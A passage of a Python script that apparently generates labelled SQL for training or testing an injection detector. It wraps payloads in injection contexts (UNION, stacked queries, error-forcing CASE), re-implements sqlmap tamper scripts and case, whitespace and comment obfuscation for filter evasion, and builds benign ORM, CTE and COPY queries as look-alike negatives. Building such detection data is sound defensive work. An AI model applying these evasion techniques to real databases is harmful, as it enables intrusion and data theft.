            return orig + close + r.choice([";", "; ", ";\n"]) + core + r.choice([";", ""]) + r.choice(["", " "]) + hand_comment(r).lstrip(";")
        return None
    if typ in ("n", "list", "bool"):
        if mode == "repl":
            return core
        if mode == "concat":
            return orig + r.choice([" + length((%s)::text)", "-ascii((%s)::text)", " * sign(length((%s)::text))", " + 0 * length(%s::text)"]) % core
        if mode == "cond":
            if boxed:
                return None
            if not close:
                return orig + " " + core + ("" if not si["tail_means"] or r.random() < 0.5 else " " + hand_comment(r))
            return orig + close + " " + core + " " + hand_comment(r)
        if mode == "union":
            return orig + close + " " + core + " " + hand_comment(r)
        if mode == "stack":
            return orig + close + r.choice([";", "; "]) + core + (" " + hand_comment(r) if si["tail_means"] or close or r.random() < 0.5 else "")
        return None
    if typ in ("col", "dir"):
        if mode == "cond":
            expr = re.sub(r"^(AND|OR)\s+", "", core)
            return orig + ", (CASE WHEN %s THEN 1 ELSE 1/0 END)" % expr
        if mode == "repl":
            return core if typ == "col" else None
        if mode == "stack":
            return orig + "; " + core + " " + hand_comment(r)
        return None
    if typ == "ident":
        if mode == "stack":
            return orig + r.choice([";", "; "]) + core + r.choice(["", " --"])
        return None
    return None


# ---------------------------------------------------------------- tamper scripts and obfuscation
def segments(s, typ):
    """(text, editable) pieces of what the user typed: literals, quoted names,
    dollar bodies and comments are not editable; the input starts inside its
    slot's literal when the slot is a quoted one."""
    out, i, n = [], 0, len(s)
    if typ in STRING_TYPES:
        cl = CLOSER[typ]
        j = s.find(cl)
        if j < 0:
            return [(s, False)]
        out.append((s[:j + len(cl)], False))
        i = j + len(cl)
    buf = []
    while i < n:
        c = s[i]
        end = None
        if s.startswith("--", i):
            end = s.find("\n", i)
            end = n if end < 0 else end
        elif s.startswith("/*", i):
            end = s.find("*/", i + 2)
            end = n if end < 0 else end + 2
        elif c in "'\"":
            end = quoted_end(s, i + 1, c, i > 0 and s[i - 1] in "eE") or n
        elif c == "$":
            m = DOLLAR_TAG.match(s, i)
            if m and not (i > 0 and (s[i - 1].isalnum() or s[i - 1] == "_")):
                k = s.find(m.group(0), i + len(m.group(0)))
                end = n if k < 0 else k + len(m.group(0))
        if end is None:
            buf.append(c)
            i += 1
            continue
        if buf:
            out.append(("".join(buf), True))
            buf = []
        out.append((s[i:end], False))
        i = end
    if buf:
        out.append(("".join(buf), True))
    return out


def edit(s, typ, fn):
    segs = segments(s, typ)
    return "".join(fn(t, idx, len(segs)) if e else t for idx, (t, e) in enumerate(segs))


KEYWORDS = set("""SELECT FROM WHERE AND OR NOT UNION ALL CASE WHEN THEN ELSE END CAST AS NULL IS LIKE IN EXISTS ORDER BY GROUP HAVING LIMIT OFFSET
    ASCII SUBSTRING FOR LENGTH COALESCE VARCHAR TEXT NUMERIC PG_SLEEP GENERATE_SERIES COUNT DISTINCT CHR CURRENT_USER VERSION SLEEP
    BETWEEN TRUE FALSE INSERT INTO VALUES UPDATE SET DELETE DROP TABLE CREATE COPY PROGRAM DO BEGIN EXECUTE PERFORM LANGUAGE""".split())


def _match_back(s, j):
    """Index of the '(' matching the ')' at s[j], and the start of the word before it."""
    depth = 0
    while j >= 0:
        if s[j] == ")":
            depth += 1
        elif s[j] == "(":
            depth -= 1
            if depth == 0:
                break
        j -= 1
    k = j
    while k > 0 and (s[k - 1].isalnum() or s[k - 1] == "_"):
        k -= 1
    return k


def _rewrite_gt(s, fn):
    m = re.search(r"\)>(\d+)", s)
    if not m:
        return s
    j = m.start()
    k = _match_back(s, j)
    left = s[k:j + 1]
    return s[:k] + fn(left, m.group(1)) + s[m.end():]


def _match_fwd(s, i):
    depth = 0
    while i < len(s):
        if s[i] == "(":
            depth += 1
        elif s[i] == ")":
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return -1


def _substr_leftright(s):
    m = re.search(r"SUBSTRING\(", s)
    if not m:
        return s
    e = _match_fwd(s, m.end() - 1)
    inner = s[m.end():e]
    mm = re.match(r"(.*) FROM (\d+) FOR 1$", inner, re.S)
    if not mm:
        return s
    x, pos = mm.group(1), int(mm.group(2))
    rep = "LEFT(%s,1)" % x if pos == 1 else "LEFT(RIGHT(%s,-%d),1)" % (x, pos - 1)
    return s[:m.start()] + rep + s[e + 1:]


def _if2case(s):
    m = re.search(r"\bIF\(", s)
    if not m:
        return s
    e = _match_fwd(s, m.end() - 1)
    inner = s[m.end():e]
    parts, depth, cur = [], 0, ""
    for ch in inner:
        if ch == "(":
            depth += 1
        elif ch == ")":
            depth -= 1
        if ch == "," and depth == 0:
            parts.append(cur)
            cur = ""
        else:
            cur += ch
    parts.append(cur)
    if len(parts) != 3:
        return s
    return s[:m.start()] + "CASE WHEN (%s) THEN (%s) ELSE (%s) END" % tuple(parts) + s[e + 1:]


def tamper(r, name, s, typ):
    """sqlmap tamper scripts, applied outside literals and comments where that matters."""
    if name == "between":
        f = lambda t, i, n: re.sub(r"(?<![<>=!])>(\d+)", r" NOT BETWEEN 0 AND \1", re.sub(r"\b(\d+)=(\d+)\b", r"\1 BETWEEN \2 AND \2", t))
        return edit(s, typ, f)
    if name == "greatest":
        return edit(s, typ, lambda t, i, n: _rewrite_gt(t, lambda a, b: "GREATEST(%s,%s+1)=%s" % (a, b, a)))
    if name == "least":
        return edit(s, typ, lambda t, i, n: _rewrite_gt(t, lambda a, b: "LEAST(%s,%s+1)=%s+1" % (a, b, b)))
    if name == "equaltolike":
        return edit(s, typ, lambda t, i, n: re.sub(r"\s*(?<![<>!:=])=(?![=>])\s*", " LIKE ", t))
    if name == "randomcase":
        return edit(s, typ, lambda t, i, n: re.sub(r"[A-Za-z_]{2,}", lambda m: "".join(ch.upper() if r.random() < 0.5 else ch.lower() for ch in m.group(0))
                                                    if m.group(0).upper() in KEYWORDS else m.group(0), t))
    if name == "space2comment":
        return edit(s, typ, lambda t, i, n: t.replace(" ", "/**/"))
    if name == "space2randomblank":
        return edit(s, typ, lambda t, i, n: re.sub(" ", lambda m: r.choice(["\t", "\n", "\f", "\r"]), t))
    if name == "space2dash":
        return edit(s, typ, lambda t, i, n: re.sub(" ", lambda m: "--%s\n" % randstr(r, r.randint(4, 8)), t))
    if name == "commentbeforeparentheses":
        return edit(s, typ, lambda t, i, n: re.sub(r"\b(\w+)\(", r"\1/**/(", t))
    if name == "substring2leftright":
        return edit(s, typ, lambda t, i, n: _substr_leftright(t))
    if name == "unionalltounion":
        return s.replace("UNION ALL SELECT", "UNION SELECT")
    if name == "0eunion":
        return re.sub(r"(\d+)\s+(UNION )", r"\1e0\2", s)
    if name == "misunion":
        return re.sub(r"\s+(UNION )", r"-.1\1", s)
    if name == "sleep2getlock":
        return re.sub(r"SLEEP\((\d+)\)", lambda m: "GET_LOCK('%s',%s)" % (randstr(r), m.group(1)), s)
    if name == "if2case":
        return _if2case(s)
    if name == "escapequotes":
        return s.replace("'", "\\'").replace('"', '\\"')
    if name == "lowercase":
        return edit(s, typ, lambda t, i, n: re.sub(r"[A-Z_]{2,}", lambda m: m.group(0).lower() if m.group(0) in KEYWORDS else m.group(0), t))
    return s


def tamper_choices(dbms, family):
    out = ["between", "greatest", "least", "randomcase", "space2comment", "space2randomblank", "commentbeforeparentheses", "equaltolike",
           "substring2leftright", "lowercase", "space2dash"]
    if family == "sqlmap_union_query":
        out += ["unionalltounion", "0eunion", "misunion", "unionalltounion"]
    if dbms == "MySQL":
        out += ["sleep2getlock", "if2case", "if2case"]
    return out


def obfuscate(r, fam, s, typ):
    if fam == "obf_case_mix":
        style = r.random()
        if style < 0.6:
            return edit(s, typ, lambda t, i, n: re.sub(r"[A-Za-z_]+", lambda m: "".join(ch.upper() if r.random() < 0.5 else ch.lower() for ch in m.group(0)), t))
        if style < 0.8:
            return edit(s, typ, lambda t, i, n: re.sub(r"[A-Za-z_]+", lambda m: "".join(ch.upper() if j % 2 else ch.lower() for j, ch in enumerate(m.group(0))), t))
        return edit(s, typ, lambda t, i, n: re.sub(r"[A-Za-z_]+", lambda m: m.group(0)[0].lower() + m.group(0)[1:].upper() if len(m.group(0)) > 1 else m.group(0), t))
    if fam == "obf_whitespace":
        pool = ["\t", "\n", "\r\n", "\f", "\r", " \t ", "\n\n", "\t\t", "\f\n", "    "]
        return edit(s, typ, lambda t, i, n: re.sub(r" +", lambda m: r.choice(pool), re.sub(r"(\S)(=|\|\||<>)(\S)", lambda m: m.group(1) + r.choice(["\t", "\n", " "]) + m.group(2) + r.choice(["\t", " ", "\f"]) + m.group(3), t) if r.random() < 0.3 else t))
    if fam == "obf_inline_comment":
        pool = ["/**/", "/**/", "/*%s*/" % rword(r, r.randint(1, 6)), "/* */", "/*/**/*/", "/*\n*/", "--%s\n" % randstr(r, 3), "/**//**/"]
        def f(t, i, n):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            if r.random() < 0.35:
                t = re.sub(r"\b(\w+)\(", lambda m: m.group(1) + r.choice(["/**/(", "(", "/*x*/("]), t)
            return t
        return edit(s, typ, f)
    if fam == "obf_nospace":
        def f(t, i, n):
            t = re.sub(r" *([=<>!|,()+*;]+) *", r"\1", t)
            if i > 0 or typ in STRING_TYPES:
                t = t.lstrip(" ")
            if i + 1 < n:
                t = t.rstrip(" ")
            return t
        return edit(s, typ, f)
    return s


# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Ama Owusu", "Caoimhe Nic Aodha", "Jun-seo Park", "Lerato Khumalo", "Henrik Bjørnstad", "Mateus Albuquerque", "Ananya Krishnan",
          "Oleksandr Hnatyuk", "Yasmin El-Amin", "Declan O'Shaughnessy", "Élodie Marchand", "Björn Lindqvist", "Thandiwe Ndlovu", "Kenji Morimoto"]
REMARKS = ["swarm caught in the lime tree", "customer said \"leave it with the porter\"", "select the aisle seat if free", "union rep to attend; bring badge",
           "refund pending -- see case 4411", "O'Connell Bridge stop", "deposit 25% paid", "glass; this way up", "awaiting sign-off (finance)",
           "contains sesame", "re-test Thursday", "update: ferry delayed 40 min", "drop box at gate B", "1=1 in the spec means always-on"]


def ts(r, lo=2021, hi=2025):
    return "%s %02d:%02d:%02d" % (rdate(r, lo, hi), r.randint(0, 23), r.randint(0, 59), r.randint(0, 59))


def complex_gens():
    G, add = registry()

    # ---- ORM output
    @add("cx10_django_hives", "complex_orm_generated")
    def _(r):
        ids = ", ".join(str(r.randint(1, 900)) for _ in range(r.randint(1, 5)))
        return ('SELECT "apiary_hive"."id", "apiary_hive"."hive_tag", "apiary_hive"."site_id", "apiary_hive"."weight_kg" FROM "apiary_hive" '
                'WHERE ("apiary_hive"."active" AND "apiary_hive"."site_id" IN (%s)) ORDER BY "apiary_hive"."hive_tag" ASC' % ids)

    @add("cx10_django_count_scans", "complex_orm_generated")
    def _(r):
        d = rdate(r, 2023, 2025)
        return ('SELECT "ski_liftscan"."gate_code", COUNT("ski_liftscan"."id") AS "n" FROM "ski_liftscan" WHERE "ski_liftscan"."scanned_at" BETWEEN %s::timestamptz AND %s::timestamptz '
                'GROUP BY "ski_liftscan"."gate_code" ORDER BY "n" DESC' % (q(d + " 00:00:00+00:00"), q(d + " 23:59:59.999999+00:00")))

    @add("cx10_django_icontains", "complex_orm_generated")
    def _(r):
        term = r.choice(["velvet", "O'Neill cape", "union jack", "select-fit", "50% wool", "drop waist"])
        return ('SELECT "wardrobe_costume"."id", "wardrobe_costume"."costume_ref", "wardrobe_costume"."description" FROM "wardrobe_costume" '
                'WHERE UPPER("wardrobe_costume"."description"::text) LIKE UPPER(%s) ORDER BY "wardrobe_costume"."costume_ref" ASC LIMIT %d'
                % (q("%" + term.replace("%", "\\%") + "%"), r.choice([21, 50, 100])))

    @add("cx10_django_update", "complex_orm_generated")
    def _(r):
        return ('UPDATE "laundry_machine" SET "status" = %s, "last_service" = %s::date WHERE "laundry_machine"."machine_no" = %d'
                % (q(r.choice(["in_service", "out_of_order", "reserved"])), q(rdate(r)), r.randint(1, 40)))

    @add("cx10_sqlalchemy_firings", "complex_orm_generated")
    def _(r):
        return ("SELECT kiln_firings.firing_id, kiln_firings.cone, kiln_firings.peak_c \nFROM kiln_firings \nWHERE kiln_firings.kiln_no = %d "
                "AND kiln_firings.fired_at >= %s ORDER BY kiln_firings.fired_at DESC \n LIMIT %d" % (r.randint(1, 6), q(ts(r)), r.choice([10, 25, 50])))

    @add("cx10_sqlalchemy_join", "complex_orm_generated")
    def _(r):
        return ("SELECT anon_1.route_id, anon_1.grade, count(ascent_logs.id) AS count_1 \nFROM (SELECT climbing_routes.route_id AS route_id, climbing_routes.grade AS grade "
                "\nFROM climbing_routes \nWHERE climbing_routes.wall_code = %s) AS anon_1 LEFT OUTER JOIN ascent_logs ON ascent_logs.route_id = anon_1.route_id "
                "GROUP BY anon_1.route_id, anon_1.grade" % q(r.choice(["CAVE", "SLAB-EAST", "ARETE", "KIDS-WALL"])))

    @add("cx10_hibernate6_sailings", "complex_orm_generated")
    def _(r):
        return ("select fs1_0.sailing_id,fs1_0.car_spaces_left,fs1_0.departs_at,fs1_0.route_code from ferry_sailings fs1_0 "
                "where fs1_0.route_code=%s and fs1_0.departs_at>=%s order by fs1_0.departs_at offset %d rows fetch first %d rows only"
                % (q(r.choice(["OBN-CRN", "ARD-BRO", "ULL-STN", "PEN-SCL"])), q(ts(r)), r.choice([0, 10, 20]), r.choice([10, 20])))

    @add("cx10_hibernate_update_version", "complex_orm_generated")
    def _(r):
        v = r.randint(0, 40)
        return ("update deck_bookings set vehicle_len_m=%s,vehicle_reg=%s,version=%d where booking_ref=%s and version=%d"
                % ("%.1f" % r.uniform(3.5, 12), q(r.choice(["SK19 XPT", "YD70 KLM", "D 4471 KX", "WX21 OBR"])), v + 1, q("FB-%05X" % r.getrandbits(20)), v))

    @add("cx10_activerecord_sailings", "complex_orm_generated")
    def _(r):
        return ('SELECT "ferry_sailings".* FROM "ferry_sailings" WHERE "ferry_sailings"."route_code" = %s AND "ferry_sailings"."departs_at" >= %s '
                'ORDER BY "ferry_sailings"."departs_at" ASC LIMIT %d' % (q(r.choice(["OBN-CRN", "ARD-BRO"])), q(ts(r) + ".%06d" % r.randint(0, 999999)), r.choice([5, 10])))

    @add("cx10_activerecord_exists", "complex_orm_generated")
    def _(r):
        return ('SELECT 1 AS one FROM "dog_licences" WHERE "dog_licences"."owner_postcode" = %s AND "dog_licences"."dog_name" = %s LIMIT 1'
                % (q(r.choice(["LS62AB", "EH75QT", "BT71NN"])), q(r.choice(["Biscuit", "D'Artagnan", "Select", "Null", "Mr Pickles"]))))

    @add("cx10_activerecord_insert", "complex_orm_generated")
    def _(r):
        t = ts(r) + ".%06d" % r.randint(0, 999999)
        return ('INSERT INTO "ascent_logs" ("member_no", "route_id", "style", "attempts", "created_at", "updated_at") VALUES (%d, %d, %s, %d, %s, %s) RETURNING "id"'
                % (r.randint(1, 90000), r.randint(1, 5000), q(r.choice(["flash", "onsight", "redpoint", "top-rope"])), r.randint(1, 9), q(t), q(t)))

    @add("cx10_sequelize_taps", "complex_orm_generated")
    def _(r):
        return ('SELECT "id", "wristbandUid", "barCode", "amountCents", "createdAt" FROM "WristbandTaps" AS "WristbandTap" '
                'WHERE "WristbandTap"."wristbandUid" = %s AND "WristbandTap"."festivalDay" IN (%s) ORDER BY "WristbandTap"."createdAt" DESC LIMIT %d;'
                % (q("WB-%08X" % r.getrandbits(32)), ", ".join(str(x) for x in sorted(r.sample(range(1, 5), r.randint(1, 3)))), r.choice([20, 100])))

    @add("cx10_prisma_pawn", "complex_orm_generated")
    def _(r):
        return ('SELECT "public"."pawn_tickets"."ticket_no", "public"."pawn_tickets"."item_desc", "public"."pawn_tickets"."loan_pence" FROM "public"."pawn_tickets" '
                'WHERE ("public"."pawn_tickets"."branch_code" = $1 AND "public"."pawn_tickets"."loan_pence" >= $2) ORDER BY "public"."pawn_tickets"."ticket_no" DESC LIMIT $3 OFFSET $4')

    @add("cx10_prisma_count", "complex_orm_generated")
    def _(r):
        return ('SELECT COUNT(*) AS "_count._all" FROM (SELECT "public"."blood_units"."unit_no" FROM "public"."blood_units" WHERE ("public"."blood_units"."abo_group" = %s '
                'AND "public"."blood_units"."quarantined" = false) OFFSET %d) AS "sub"' % (q(r.choice(["O", "A", "B", "AB"])), 0))

    @add("cx10_typeorm_routes", "complex_orm_generated")
    def _(r):
        return ('SELECT "Route"."route_id" AS "Route_route_id", "Route"."grade" AS "Route_grade", "Ascent"."id" AS "Ascent_id" FROM "climbing_routes" "Route" '
                'LEFT JOIN "ascent_logs" "Ascent" ON "Ascent"."route_id"="Route"."route_id" WHERE "Route"."wall_code" = %s AND "Route"."stripped_on" IS NULL'
                % q(r.choice(["CAVE", "SLAB-EAST", "ROOF"])))

    @add("cx10_gorm_card_update", "complex_orm_generated")
    def _(r):
        return ('UPDATE "laundry_cards" SET "balance_cents"=%d,"updated_at"=%s WHERE card_uid = %s AND "laundry_cards"."deleted_at" IS NULL'
                % (r.randint(0, 5000), q(ts(r) + ".%03d" % r.randint(0, 999)), q("LC-%06d" % r.randint(0, 999999))))

    @add("cx10_efcore_treatments", "complex_orm_generated")
    def _(r):
        return ('SELECT c."treatment_id", c."shelfmark", c."treatment_log" FROM "conservation_treatments" AS c WHERE c."conservator_id" = %d '
                'ORDER BY c."started_on" DESC LIMIT %d' % (r.randint(1, 60), r.choice([10, 20])))

    @add("cx10_jooq_alarms", "complex_orm_generated")
    def _(r):
        return ('select "public"."turbine_alarms"."alarm_code", count(*) from "public"."turbine_alarms" where "public"."turbine_alarms"."raised_at" > timestamp with time zone %s '
                'group by "public"."turbine_alarms"."alarm_code" order by 2 desc' % q(ts(r) + "+00:00"))

    @add("cx10_ecto_inspections", "complex_orm_generated")
    def _(r):
        return ('SELECT h0."id", h0."hive_tag", h0."brood_frames", h0."inspected_on" FROM "hive_inspections" AS h0 WHERE (h0."hive_tag" = %s) ORDER BY h0."inspected_on" DESC'
                % q(r.choice(["HV-0192", "NORTH-07", "orchard-3", "HV-0007"])))

    @add("cx10_doctrine_licences", "complex_orm_generated")
    def _(r):
        return ("SELECT t0.id AS id_1, t0.licence_no AS licence_no_2, t0.dog_name AS dog_name_3, t0.breed AS breed_4 FROM dog_licences t0 WHERE t0.owner_postcode = %s LIMIT %d"
                % (q(r.choice(["LS62AB", "EH75QT", "BT71NN", "CF101EP"])), r.choice([10, 20, 50])))

    @add("cx10_diesel_tides", "complex_orm_generated")
    def _(r):
        return ('SELECT "tide_observations"."station_id", "tide_observations"."observed_at", "tide_observations"."height_m" FROM "tide_observations" '
                'WHERE "tide_observations"."station_id" = $1 ORDER BY "tide_observations"."observed_at" DESC LIMIT $2')

    @add("cx10_laravel_glazes", "complex_orm_generated")
    def _(r):
        return ('select * from "glaze_recipes" where "cone_max" >= %d and "name"::text ilike %s order by "name" asc limit %d offset %d'
                % (r.choice([5, 6, 10]), q("%" + r.choice(["celadon", "shino", "tenmoku", "o'hara blue"]) + "%"), r.choice([15, 30]), r.choice([0, 15, 30])))

    @add("cx10_peewee_desks", "complex_orm_generated")
    def _(r):
        return 'SELECT "t1"."id", "t1"."desk_code", "t1"."zone" FROM "coworking_desks" AS "t1" WHERE ("t1"."floor_no" = %d) LIMIT %d' % (r.randint(1, 12), r.choice([50, 100]))

    @add("cx10_sequel_spots", "complex_orm_generated")
    def _(r):
        return ('SELECT * FROM "ad_spots" WHERE (("status" = %s) AND ("starts_at" < %s)) ORDER BY "starts_at" LIMIT %d'
                % (q(r.choice(["pencilled", "confirmed"])), q(ts(r)), r.choice([50, 100])))

    @add("cx10_exposed_yields", "complex_orm_generated")
    def _(r):
        return ("SELECT MILK_YIELDS.ANIMAL_TAG, MILK_YIELDS.LITRES, MILK_YIELDS.MILKED_AT FROM MILK_YIELDS WHERE (MILK_YIELDS.PARLOUR_CODE = %s) AND (MILK_YIELDS.MILKED_AT >= %s)"
                % (q(r.choice(["PARLOUR-A", "ROTARY-2"])), q(ts(r))))

    @add("cx10_drizzle_folios", "complex_orm_generated")
    def _(r):
        return ('select "id", "shelfmark", "folio_no" from "manuscript_folios" where ("manuscript_folios"."shelfmark" = $1 and "manuscript_folios"."folio_no" like $2)')

    @add("cx10_mikroorm_slots", "complex_orm_generated")
    def _(r):
        return ('select "e0".* from "escape_room_slots" as "e0" where "e0"."venue_code" = %s and "e0"."slot_start" >= %s order by "e0"."slot_start" asc limit %d'
                % (q(r.choice(["ESC-SHOREDITCH", "ESC-GLASGOW", "ESC-CORK"])), q(ts(r)), r.choice([12, 24])))

    # ---- ORM / driver introspection
    @add("cx10_introspect", "complex_orm_introspection")
    def _(r):
        t = r.choice(["ferry_sailings", "pawn_tickets", "locker_deposits", "kiln_firings", "tide_observations", "blood_units"])
        return r.choice([
            "SELECT pg_catalog.pg_class.relname FROM pg_catalog.pg_class JOIN pg_catalog.pg_namespace ON pg_catalog.pg_namespace.oid = pg_catalog.pg_class.relnamespace WHERE pg_catalog.pg_class.relname = '%s' AND pg_catalog.pg_class.relkind = ANY (ARRAY['r', 'p', 'f', 'v', 'm']) AND pg_catalog.pg_table_is_visible(pg_catalog.pg_class.oid) AND pg_catalog.pg_namespace.nspname != 'pg_catalog'" % t,
            "SELECT t.oid, t.typname FROM pg_type as t WHERE t.typname IN ('int2', 'int4', 'int8', 'oid', 'float4', 'float8', 'numeric', 'bool', 'timestamptz', 'jsonb')",
            "SELECT column_name, data_type, is_nullable, column_default FROM information_schema.columns WHERE table_schema = 'public' AND table_name = '%s' ORDER BY ordinal_position" % t,
            "SELECT sequence_name FROM information_schema.sequences WHERE sequence_schema = 'public'",
            "SELECT n.nspname AS \"Schema\", c.relname AS \"Name\", CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' END AS \"Type\" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r', 'p', 'v', 'm') AND n.nspname <> 'pg_catalog' AND n.nspname !~ '^pg_toast' AND n.nspname <> 'information_schema' ORDER BY 1, 2",
            "SELECT i.relname AS index_name, a.attname, ix.indisunique FROM pg_index ix JOIN pg_class i ON i.oid = ix.indexrelid JOIN pg_attribute a ON a.attrelid = ix.indrelid AND a.attnum = ANY(ix.indkey) WHERE ix.indrelid = 'public.%s'::regclass" % t,
            "SELECT COUNT(*) FROM pg_namespace WHERE nspname = 'public'",
            "SELECT tc.constraint_name, kcu.column_name, ccu.table_name AS foreign_table FROM information_schema.table_constraints tc JOIN information_schema.key_column_usage kcu ON tc.constraint_name = kcu.constraint_name JOIN information_schema.constraint_column_usage ccu ON ccu.constraint_name = tc.constraint_name WHERE tc.constraint_type = 'FOREIGN KEY' AND tc.table_name = '%s'" % t,
            "SELECT e.enumlabel FROM pg_enum e JOIN pg_type t ON t.oid = e.enumtypid WHERE t.typname = '%s' ORDER BY e.enumsortorder" % r.choice(["firing_state", "locker_size", "blood_group"]),
            "SHOW server_version_num"])

    # ---- CTE / window
    @add("cx10_cte_quota_burn", "complex_cte_window")
    def _(r):
        return ("WITH landed AS (SELECT stock_code, date_trunc('week', landed_on) AS wk, sum(live_weight_kg) / 1000.0 AS t FROM catch_landings WHERE landed_on >= %s GROUP BY 1, 2) "
                "SELECT stock_code, wk, sum(t) OVER (PARTITION BY stock_code ORDER BY wk) AS cumulative_t FROM landed ORDER BY stock_code, wk" % q(rdate(r)))

    @add("cx10_window_lane_rank", "complex_cte_window")
    def _(r):
        return ("SELECT pool_code, lane_no, count(*) AS bookings, rank() OVER (PARTITION BY pool_code ORDER BY count(*) DESC) AS busiest "
                "FROM lane_bookings WHERE session_start >= now() - interval '%d days' GROUP BY pool_code, lane_no" % r.randint(7, 90))

    @add("cx10_window_tide_extrema", "complex_cte_window")
    def _(r):
        return ("SELECT observed_at, height_m FROM (SELECT observed_at, height_m, lag(height_m) OVER w AS prev_h, lead(height_m) OVER w AS next_h FROM tide_observations "
                "WHERE station_id = %s WINDOW w AS (ORDER BY observed_at)) s WHERE height_m > prev_h AND height_m >= next_h" % q(r.choice(["NEWLYN", "AVONMOUTH", "8518750"])))

    @add("cx10_cte_donor_gap", "complex_cte_window")
    def _(r):
        return ("WITH v AS (SELECT donor_ref, visited_at, visited_at - lag(visited_at) OVER (PARTITION BY donor_ref ORDER BY visited_at) AS gap FROM donor_visits) "
                "SELECT donor_ref, min(gap), max(gap) FROM v WHERE gap IS NOT NULL GROUP BY donor_ref HAVING min(gap) < interval '%d days'" % r.choice([56, 84, 112]))

    @add("cx10_window_first_last", "complex_cte_window")
    def _(r):
        return ("SELECT DISTINCT turbine_id, first_value(alarm_code) OVER w AS first_alarm, last_value(alarm_code) OVER w AS last_alarm FROM turbine_alarms "
                "WHERE raised_at::date = %s WINDOW w AS (PARTITION BY turbine_id ORDER BY raised_at ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING)" % q(rdate(r)))

    @add("cx10_cte_recursive_trench", "complex_cte_window")
    def _(r):
        return ("WITH RECURSIVE strat(context_no, above, depth) AS (SELECT context_no, above_context, 0 FROM trench_contexts WHERE context_no = %d "
                "UNION ALL SELECT c.context_no, c.above_context, s.depth + 1 FROM trench_contexts c JOIN strat s ON c.context_no = s.above) "
                "SEARCH DEPTH FIRST BY context_no SET ord SELECT * FROM strat ORDER BY ord LIMIT %d" % (r.randint(1000, 1999), r.choice([50, 200])))

    @add("cx10_window_percent", "complex_cte_window")
    def _(r):
        return ("SELECT territory, sum(play_count) AS plays, round(100.0 * sum(play_count) / sum(sum(play_count)) OVER (), 2) AS pct, cume_dist() OVER (ORDER BY sum(play_count)) "
                "FROM track_streams WHERE stream_date BETWEEN %s AND %s GROUP BY territory" % (q(rdate(r, 2023, 2024)), q(rdate(r, 2025, 2025))))

    @add("cx10_cte_materialized", "complex_cte_window")
    def _(r):
        return ("WITH busy AS MATERIALIZED (SELECT bank_code, count(*) AS n FROM locker_deposits WHERE deposited_at > now() - interval '%d hours' GROUP BY bank_code) "
                "SELECT l.bank_code, l.city, b.n FROM locker_banks l JOIN busy b USING (bank_code) WHERE b.n > %d ORDER BY b.n DESC" % (r.choice([6, 24, 48]), r.randint(5, 50)))

    # ---- union / set-operation reports
    @add("cx10_union_depot_summary", "complex_union_report")
    def _(r):
        d = q(r.choice(["DEPOT-PENRITH", "DEPOT-BUXTON", "DEPOT-O'NEILL"]))
        return ("SELECT 'runs' AS metric, count(*)::numeric FROM gritting_runs WHERE depot = %s AND started_at > now() - interval '1 day' "
                "UNION ALL SELECT 'salt_t', coalesce(sum(salt_tonnes), 0) FROM gritting_runs WHERE depot = %s AND started_at > now() - interval '1 day' "
                "UNION ALL SELECT 'barn_t', stock_tonnes FROM salt_barns WHERE depot = %s" % (d, d, d))

    @add("cx10_union_people", "complex_union_report")
    def _(r):
        n = q(r.choice(["Okafor", "O'Dowd", "Lindqvist", "Union", "Select", "Park"]) + "%")
        return ("SELECT 'donor' AS source, donor_ref AS ref, surname FROM donor_register WHERE surname ILIKE %s UNION SELECT 'performer', performer_id::text, surname "
                "FROM performers WHERE surname ILIKE %s ORDER BY surname, source LIMIT %d" % (n, n, r.choice([20, 40])))

    @add("cx10_intersect_lockers", "complex_union_report")
    def _(r):
        return ("SELECT courier_ref FROM locker_deposits WHERE bank_code = %s INTERSECT SELECT courier_ref FROM courier_drops WHERE dropped_on >= %s"
                % (q(r.choice(["LKR-KINGSX-04", "LKR-LEITH", "LKR-SALFORD-1"])), q(rdate(r))))

    @add("cx10_except_unfired", "complex_union_report")
    def _(r):
        return ("(SELECT piece_id FROM pottery_pieces WHERE glazed_on >= %s) EXCEPT ALL (SELECT piece_id FROM kiln_loads WHERE firing_id > %d) ORDER BY 1"
                % (q(rdate(r)), r.randint(100, 9000)))

    # ---- COPY
    @add("cx10_copy", "complex_copy_stdin")
    def _(r):
        return r.choice([
            "COPY tide_observations (station_id, observed_at, height_m) FROM STDIN WITH (FORMAT csv, HEADER match)",
            "COPY (SELECT unit_no, abo_group, rh_factor, expires_on FROM blood_units WHERE expires_on < %s) TO STDOUT WITH (FORMAT csv, HEADER, FORCE_QUOTE *)" % q(rdate(r)),
            "COPY milk_yields (animal_tag, parlour_code, milked_at, litres) FROM STDIN (FORMAT binary)",
            "COPY wristband_taps TO STDOUT WITH (FORMAT text, NULL '\\N', DELIMITER E'\\t')",
            "COPY (SELECT * FROM catch_landings WHERE vessel_reg = %s ORDER BY landed_on) TO STDOUT WITH CSV HEADER" % q(r.choice(["BF 412", "SS 77", "PZ 1190"])),
            "COPY glaze_recipes (name, cone_min, cone_max, ingredients) FROM STDIN WITH (FORMAT csv, QUOTE '''', ESCAPE '\\')",
            "COPY hive_inspections FROM STDIN WITH (FORMAT csv, DELIMITER ';', NULL 'n/a', ENCODING 'LATIN1')",
            "COPY playout_logs (station_call, aired_at, cart_no, duration_s) FROM STDIN WITH (FORMAT csv, FORCE_NOT_NULL (cart_no))",
            "COPY (SELECT licence_no, dog_name FROM dog_licences WHERE issued_on >= %s) TO STDOUT" % q(rdate(r)),
            "COPY lift_gate_scans (pass_uid, gate_code, scanned_at) FROM STDIN WITH (FORMAT csv, FREEZE true)"])

    # ---- batch inserts
    @add("cx10_batch_scans", "complex_batch_insert")
    def _(r):
        rows = ", ".join("(%s, %s, %s)" % (q("SKI-%04X-%04d" % (r.getrandbits(16), r.randint(0, 9999))), q(r.choice(["G1", "G2", "CHAIR-4", "GONDOLA"])), q(ts(r, 2024, 2025)))
                         for _ in range(r.randint(3, 7)))
        return "INSERT INTO lift_gate_scans (pass_uid, gate_code, scanned_at) VALUES " + rows

    @add("cx10_batch_setlist", "complex_batch_insert")
    def _(r):
        songs = ["Union City Blue", "Select All", "Drop It Like It's Hot", "Don't Stop Me Now", "Where Is My Mind?", "1=1 (Interlude)",
